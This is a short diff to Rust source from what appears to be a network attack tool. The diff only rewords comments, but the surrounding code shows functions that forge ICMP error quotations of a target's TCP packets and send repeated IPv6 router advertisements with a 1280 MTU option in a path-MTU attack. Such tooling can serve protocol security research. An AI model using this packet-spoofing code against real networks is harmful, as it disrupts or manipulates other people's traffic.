@@ -48,8 +48,8 @@ const fn pmtu_attack(
 /// Messages per round.
 const ROUND: usize = 256;
 
-/// Returns what an ICMP error quotes: the IPv4 header and the first 8 bytes of payload of a packet from the target on
-/// the good stream.
+/// Returns the quotation of an ICMP error: the IPv4 header and the first 8 bytes of payload of a packet from the target
+/// on the good stream.
 fn quote(context: &AttackContext<'_>, seq: u32, protocol: IpNumber) -> Result<Vec<u8>> {
     let (target, peer) = (context.flow.source, context.flow.destination);
     let mut header = TcpHeader::new(target.port(), peer.port(), seq, 1000);
@@ -171,7 +171,7 @@ fn send_false_pmtu_v6(context: &mut AttackContext<'_>) -> Result<()> {
 fn send_router_advertisements(context: &mut AttackContext<'_>) -> Result<()> {
     for n in 0..ROUND {
         let (kind, body) = if n % 2 == 0 {
-            // RFC 4861 §4.2: an MTU of 1280, and a prefix.
+            // RFC 4861 §4.2: hop limit 64, lifetime 1800 s, and an MTU option of 1280.
             (134, [&[64, 0, 7, 8, 0, 0, 0, 0, 0, 0, 0, 0][..], &[5, 1, 0, 0, 0, 0, 5, 0]].concat())
         } else {
             let [to, about] =
